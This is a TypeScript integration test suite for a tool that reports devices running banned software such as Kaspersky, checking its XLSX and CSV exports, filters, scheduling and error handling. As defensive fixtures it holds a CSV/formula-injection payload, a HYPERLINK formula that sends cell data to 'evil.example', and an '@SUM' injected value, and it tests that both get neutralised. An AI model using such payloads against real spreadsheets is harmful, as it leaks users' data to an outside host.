import { mkdtempSync, existsSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import * as XLSX from 'xlsx';
import { loadConfig, type Config } from '@interdict/config';
import { createTestDatabase, type TestDatabase } from '../../../../test/support/test-database';
import { streamExposedDevices } from '../data/report-queries';
import { ReportSnapshot } from '../data/report-snapshot';
import { staticRuleDirectory } from '../rule-directory';
import { ReportScheduleService } from '../schedules/report-schedule.service';
import { LocalDiskReportStorage } from '../storage/local-disk-report-storage';
import type { ReportStorage } from '../storage/report-storage';
import { newDevice, newException, newFinding, newSoftware, newSource } from '../testing/report-factories';
import { ReportRetention } from './report-retention';
import { ReportRunner } from './report-runner';
import { ReportService } from './report.service';
import type { Requester } from './report-views';

const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
const RULE_URL = 'https://www.federalregister.gov/documents/2024/06/24/2024-13532/kaspersky';
const rules = staticRuleDirectory(
  {
    'us-bis-kaspersky-2024': {
      title: 'Kaspersky final determination',
      citation: '89 FR 52434',
      sourceUrl: RULE_URL,
    },
  },
  { kaspersky: 'Kaspersky (all products)' },
);
const analyst: Requester = { type: 'api_key', id: 'k1', name: 'analyst-key' };
const DAY = 86_400_000;

describe('ReportRunner (real Postgres, files read back with SheetJS and csv-parse)', () => {
  let db: TestDatabase;
  let config: Config;
  let dir: string;
  let storage: LocalDiskReportStorage;
  let service: ReportService;
  let runner: ReportRunner;
  let schedules: ReportScheduleService;
  const ids: Record<string, string> = {};

  const makeRunner = (s: ReportStorage) =>
    new ReportRunner(db.dataSource, config, s, rules, new ReportRetention(db.dataSource, config, s));

  beforeAll(async () => {
    db = await createTestDatabase();
    dir = mkdtempSync(join(tmpdir(), 'interdict-reports-'));
    config = loadConfig({
      env: { NODE_ENV: 'test', INTERDICT_ORG_NAME: 'Société Exemple', INTERDICT_DATA_DIR: dir },
      configDir: mkdtempSync(join(tmpdir(), 'interdict-noconfig-')),
    });
    storage = new LocalDiskReportStorage(join(dir, 'reports'));
    service = new ReportService(db.dataSource, storage);
    runner = makeRunner(storage);
    schedules = new ReportScheduleService(db.dataSource);

    const ds = db.dataSource;
    const intune = await newSource(ds, { name: 'Contoso Intune', kind: 'intune' });
    const jamf = await newSource(ds, { name: 'Contoso Jamf', kind: 'jamf' });
    await ds.query(
      `INSERT INTO sync_run (source_id, status, started_at, finished_at) VALUES
         ($1, 'succeeded', now() - interval '3 hours', now() - interval '2 hours'),
         ($1, 'failed', now() - interval '1 hour', now() - interval '50 minutes')`,
      [intune],
    );
    // One Mac seen by both MDMs: one row per finding, both sources listed, the hostile name from the latest check-in.
    ids.macIntune = await newDevice(ds, {
      sourceId: intune,
      physicalKey: 'serial:C02XYZ',
      serial: 'C02XYZ',
      name: HOSTILE,
      platform: 'macos',
      lastCheckInAt: new Date(Date.now() - 3600_000),
    });
    ids.macJamf = await newDevice(ds, {
      sourceId: jamf,
      physicalKey: 'serial:C02XYZ',
      serial: 'C02XYZ',
      name: 'old-jamf-name',
      platform: 'macos',
      lastCheckInAt: new Date(Date.now() - 5 * 3600_000),
    });
    ids.pc = await newDevice(ds, {
      sourceId: intune,
      name: 'PC-José',
      serial: 'PC1',
      platform: 'windows',
      tags: ['finance'],
    });
    ids.stale = await newDevice(ds, {
      sourceId: intune,
      name: 'stale-laptop',
      lastCheckInAt: new Date(Date.now() - 40 * DAY),
    });
    ids.never = await newDevice(ds, {
      sourceId: jamf,
      name: 'never-seen',
      lastCheckInAt: null,
      appsReported: false,
    });

    const kasMac = await newSoftware(ds, {
      name: 'Kaspersky Internet Security',
      platform: 'macos',
      bundleId: 'com.kaspersky.kis',
    });
    const kasWin = await newSoftware(ds, {
      name: '+Kaspersky Endpoint Security',
      publisher: 'AO Kaspersky Lab',
    });
    const due = new Date(Date.now() - 5.5 * DAY);
    await newFinding(ds, {
      deviceId: ids.macIntune,
      softwareId: kasMac,
      dueAt: due,
      matcherId: 'kaspersky-macos-bundle',
    });
    await newFinding(ds, {
      deviceId: ids.macJamf,
      softwareId: kasMac,
      dueAt: due,
      matcherId: 'kaspersky-macos-bundle',
    });
    await newFinding(ds, { deviceId: ids.pc, softwareId: kasWin });
    ids.exception = await newException(ds, {
      productId: 'kaspersky',
      scopeValue: 'LAB1',
      expiresAt: new Date(Date.now() + 30 * DAY),
      reason: '@SUM(1+1) lab machine',
    });
    await newException(ds, {
      ruleId: 'us-bis-kaspersky-2024',
      scopeValue: 'OLD',
      expiresAt: new Date(Date.now() - DAY),
    });
    const lab = await newDevice(ds, { sourceId: intune, name: 'lab-1', serial: 'LAB1' });
    await newFinding(ds, {
      deviceId: lab,
      softwareId: kasWin,
      status: 'excepted',
      exceptionId: ids.exception,
    });
    await newFinding(ds, { deviceId: ids.stale, softwareId: kasWin, status: 'resolved' });
    await ds.query(
      `INSERT INTO exposure_snapshot (day, rule_id, product_id, platform, open_count, overdue_count, excepted_count)
       SELECT (now() AT TIME ZONE 'UTC')::date - n, 'us-bis-kaspersky-2024', 'kaspersky', 'macos', 10 - n, n, 1
       FROM generate_series(0, 4) n`,
    );
  });

  afterAll(async () => {
    await db.drop();
  });

  async function runOne(type: string, format: 'xlsx' | 'csv', filters?: unknown) {
    const queued = await service.request({ type, format, filters }, analyst);
    expect(queued.status).toBe('queued');
    const done = await runner.runNext();
    expect(done).toMatchObject({ id: queued.id, status: 'succeeded' });
    const download = await service.openDownload(queued.id);
    const chunks: Buffer[] = [];
    for await (const c of download.body as Readable) chunks.push(c as Buffer);
    return { report: done!, download, bytes: Buffer.concat(chunks) };
  }

  it('writes the exposure workbook with five sheets, real dates and numbers, deduplicated devices and a neutralised hostile name', async () => {
    const { report, download, bytes } = await runOne('exposure', 'xlsx');
    expect(download.fileName).toMatch(/^Societe-Exemple_exposure_\d{4}-\d{2}-\d{2}_\d{4}Z\.xlsx$/);
    expect(bytes.length).toBe(download.sizeBytes);
    expect(report.rowCount).toBe(2);

    const wb = XLSX.read(bytes, { cellDates: true });
    expect(wb.SheetNames).toEqual(['Summary', 'Exposed devices', 'Software', 'Coverage', 'Exceptions']);

    const exposed = wb.Sheets['Exposed devices'];
    const rows = XLSX.utils.sheet_to_json<Record<string, unknown>>(exposed, { defval: null });
    expect(rows).toHaveLength(2);
    const header = XLSX.utils.sheet_to_json<string[]>(exposed, { header: 1 })[0];
    expect(header.slice(0, 7)).toEqual([
      'Device',
      'Serial',
      'User',
      'User principal name',
      'Platform',
      'OS version',
      'Source(s)',
    ]);
    expect(exposed['!autofilter']).toBeDefined();

    const mac = rows.find((r) => r.Serial === 'C02XYZ')!;
    expect(mac.Device).toBe(`'${HOSTILE}`);
    expect(mac['Source(s)']).toBe('Contoso Intune, Contoso Jamf');
    expect(mac.Product).toBe('Kaspersky (all products)');
    expect(mac['Rule citation']).toBe('89 FR 52434');
    expect(mac['Days overdue']).toBe(5);
    expect(mac['Due (UTC)']).toBeInstanceOf(Date);
    expect(mac['First detected (UTC)']).toEqual(new Date('2026-10-01T08:00:00Z'));
    const pc = rows.find((r) => r.Serial === 'PC1')!;
    expect(pc.Title).toBe("'+Kaspersky Endpoint Security");
    expect(pc['Days overdue']).toBe(0);

    // Types of the cells themselves: no formula anywhere, dates are dates, counts are numbers, the citation links out.
    for (const cell of Object.values(exposed).filter((c) => typeof c === 'object' && c && 't' in c)) {
      expect((cell as XLSX.CellObject).f).toBeUndefined();
    }
    const macRow = rows.indexOf(mac) + 2;
    const col = (name: string) => XLSX.utils.encode_col(header.indexOf(name));
    expect(exposed[`${col('Due (UTC)')}${macRow}`].t).toBe('d');
    expect(exposed[`${col('Days overdue')}${macRow}`].t).toBe('n');
    expect(exposed[`${col('Rule citation')}${macRow}`].l?.Target).toBe(RULE_URL);

    const software = XLSX.utils.sheet_to_json<Record<string, unknown>>(wb.Sheets.Software);
    expect(software).toHaveLength(2);
    expect(software.find((s) => s.Platform === 'macos')).toMatchObject({
      'Devices (open)': 1,
      'Devices overdue': 1,
    });
    expect(software.find((s) => s.Platform === 'windows')).toMatchObject({
      'Devices (open)': 1,
      'Devices excepted': 1,
    });

    const coverage = XLSX.utils.sheet_to_json<Record<string, unknown>>(wb.Sheets.Coverage, { defval: null });
    expect(coverage.map((c) => [c.Device, c.Gap])).toEqual([
      ['never-seen', 'never checked in'],
      ['stale-laptop', 'stale'],
    ]);
    expect(coverage[1]['Days since check-in']).toBe(40);

    const exceptions = XLSX.utils.sheet_to_json<Record<string, unknown>>(wb.Sheets.Exceptions, {
      defval: null,
    });
    expect(exceptions.map((e) => [e.State, e['Scope value'], e['Findings suppressed']])).toEqual([
      ['active', 'LAB1', 1],
      ['expired', 'OLD', 0],
    ]);
    expect(exceptions[0].Reason).toBe("'@SUM(1+1) lab machine");
    expect(exceptions[0]['Expires (UTC)']).toBeInstanceOf(Date);

    const summary = XLSX.utils.sheet_to_json<unknown[]>(wb.Sheets.Summary, { header: 1, defval: null });
    const valueOf = (label: string) => summary.find((r) => r[0] === label)?.[1];
    expect(valueOf('As of (UTC)')).toBeInstanceOf(Date);
    expect(valueOf('Exposed devices')).toBe(2);
    expect(valueOf('Open findings')).toBe(2);
    expect(valueOf('Overdue findings')).toBe(1);
    expect(valueOf('Excepted findings')).toBe(1);
    expect(valueOf('Devices covered')).toBe(5);
    expect(valueOf('Coverage gaps (device records)')).toBe(2);
    const intuneRow = summary.find((r) => r[0] === 'Contoso Intune')!;
    expect(intuneRow[2]).toBeInstanceOf(Date); // last successful sync, not the later failed one
    expect(intuneRow[3]).toBe('failed');
    const trendStart = summary.findIndex((r) => r[0] === 'Day');
    expect(summary.slice(trendStart + 1, trendStart + 6).map((r) => r[1])).toEqual([6, 7, 8, 9, 10]);
    expect(summary[trendStart + 5][0]).toBeInstanceOf(Date);
  });

  it('announces report.ready in the outbox with the finished report', async () => {
    const { report } = await runOne('software', 'xlsx');
    const [event] = await db.dataSource.query(
      `SELECT payload FROM webhook_event WHERE type = 'report.ready' AND payload->>'reportId' = $1`,
      [report.id],
    );
    expect(event.payload).toMatchObject({
      reportId: report.id,
      type: 'software',
      format: 'xlsx',
      rowCount: 2,
    });
    expect(event.payload.sizeBytes).toBe(report.sizeBytes);
  });

  it('writes CSV of the same rows with a BOM, RFC 4180 quoting and neutralised formulas', async () => {
    const { bytes, download } = await runOne('exposure', 'csv');
    expect(download.contentType).toBe('text/csv; charset=utf-8');
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const rows = parse<Record<string, string>>(bytes, { bom: true, columns: true });
    expect(rows).toHaveLength(2);
    const mac = rows.find((r) => r.Serial === 'C02XYZ')!;
    expect(mac.Device).toBe(`'${HOSTILE}`);
    expect(new Date(mac['Due (UTC)']).getTime()).toBeLessThan(Date.now());
    expect(mac['Days overdue']).toBe('5');
  });

  it('applies filters: platform and finding status', async () => {
    const mac = await runOne('exposed-devices', 'csv', { platform: ['macos'] });
    expect(parse(mac.bytes, { bom: true, columns: true })).toHaveLength(1);
    const excepted = await runOne('exposed-devices', 'csv', { status: ['excepted'] });
    const rows = parse<Record<string, string>>(excepted.bytes, { bom: true, columns: true });
    expect(rows.map((r) => [r.Device, r.Status])).toEqual([['lab-1', 'excepted']]);
    const finance = await runOne('exposed-devices', 'csv', {
      group: ['finance'],
      source: ['Contoso Intune'],
    });
    expect(
      parse<Record<string, string>>(finance.bytes, { bom: true, columns: true }).map((r) => r.Device),
    ).toEqual(['PC-José']);
  });

  it('refuses bad filters by name and queues nothing', async () => {
    const before = await db.count('report');
    await expect(
      service.request({ type: 'exposure', filters: { colour: ['red'] } }, analyst),
    ).rejects.toMatchObject({
      code: 'invalid_filter',
      field: 'filters.colour',
    });
    await expect(service.request({ type: 'nope' }, analyst)).rejects.toMatchObject({ field: 'type' });
    expect(await db.count('report')).toBe(before);
  });

  it('lets only one of two racing workers claim a queued report', async () => {
    const queued = await service.request({ type: 'coverage', format: 'csv' }, analyst);
    const results = await Promise.all([runner.runNext(), makeRunner(storage).runNext()]);
    expect(results.flatMap((r) => (r ? [r.id] : []))).toEqual([queued.id]);
  });

  it('marks a report failed, with no event and no file, when storage fails', async () => {
    const broken: ReportStorage = {
      put: async (_key, body) => {
        body.resume();
        throw new Error('disk full');
      },
      get: () => storage.get('x'),
      delete: async () => undefined,
    };
    const queued = await service.request({ type: 'exposure', format: 'xlsx' }, analyst);
    const done = await makeRunner(broken).runNext();
    expect(done).toMatchObject({ id: queued.id, status: 'failed', error: 'disk full', fileName: null });
    const events = await db.dataSource.query(`SELECT 1 FROM webhook_event WHERE payload->>'reportId' = $1`, [
      queued.id,
    ]);
    expect(events).toHaveLength(0);
    await expect(service.openDownload(queued.id)).rejects.toMatchObject({ code: 'report_not_ready' });
  });

  it('keeps one consistent snapshot: rows committed while a report reads do not appear in it', async () => {
    const snap = await ReportSnapshot.open(db.dataSource);
    try {
      const sw = await newSoftware(db.dataSource, { name: 'TikTok', platform: 'ios' });
      const phone = await newDevice(db.dataSource, {
        sourceId: (await db.dataSource.query(`SELECT id FROM source LIMIT 1`))[0].id,
        platform: 'ios',
      });
      await newFinding(db.dataSource, {
        deviceId: phone,
        softwareId: sw,
        productId: 'tiktok',
        ruleId: 'tiktok-rule',
      });
      const seen: unknown[] = [];
      for await (const r of streamExposedDevices(snap, {})) seen.push(r);
      expect(seen).toHaveLength(2);
    } finally {
      await snap.close();
    }
    await db.dataSource.query(`DELETE FROM finding WHERE product_id = 'tiktok'`);
  });

  it('runs a schedule once per tick across workers and keeps only keepCount files', async () => {
    const s = await schedules.create(
      {
        name: 'Monday exposure',
        cron: '0 7 * * 1',
        timezone: 'Europe/Paris',
        type: 'exceptions',
        format: 'csv',
        keepCount: 1,
      },
      analyst,
    );
    const tick = new Date('2026-11-30T06:00:00Z');
    const fired = await Promise.all([schedules.fire(s.id, tick), schedules.fire(s.id, tick)]);
    expect(fired.filter(Boolean)).toHaveLength(1);
    const first = await runner.runNext();
    expect(first).toMatchObject({
      scheduleId: s.id,
      status: 'succeeded',
      requestedBy: 'schedule:Monday exposure',
    });

    await schedules.fire(s.id, new Date('2026-12-07T06:00:00Z'));
    const second = await runner.runNext();
    expect(second?.status).toBe('succeeded');

    const [old] = await db.dataSource.query(`SELECT deleted_at, storage_key FROM report WHERE id = $1`, [
      first!.id,
    ]);
    expect(old.deleted_at).toBeInstanceOf(Date);
    expect(existsSync(join(dir, 'reports', ...String(old.storage_key).split('/')))).toBe(false);
    await expect(service.openDownload(first!.id)).rejects.toMatchObject({ code: 'report_file_not_found' });
    const [kept] = await db.dataSource.query(`SELECT storage_key FROM report WHERE id = $1`, [second!.id]);
    expect(readFileSync(join(dir, 'reports', ...String(kept.storage_key).split('/'))).length).toBeGreaterThan(
      0,
    );
  });

  it('refuses a schedule with a bad time zone or cron and stores nothing', async () => {
    const before = await db.count('report_schedule');
    await expect(
      schedules.create({ name: 'x', cron: '0 7 * * 1', timezone: 'Mars/Olympus', type: 'exposure' }, analyst),
    ).rejects.toMatchObject({ code: 'invalid_schedule', field: 'timezone' });
    await expect(
      schedules.create({ name: 'x', cron: '* * * * * *', type: 'exposure' }, analyst),
    ).rejects.toMatchObject({
      field: 'cron',
    });
    expect(await db.count('report_schedule')).toBe(before);
  });
});
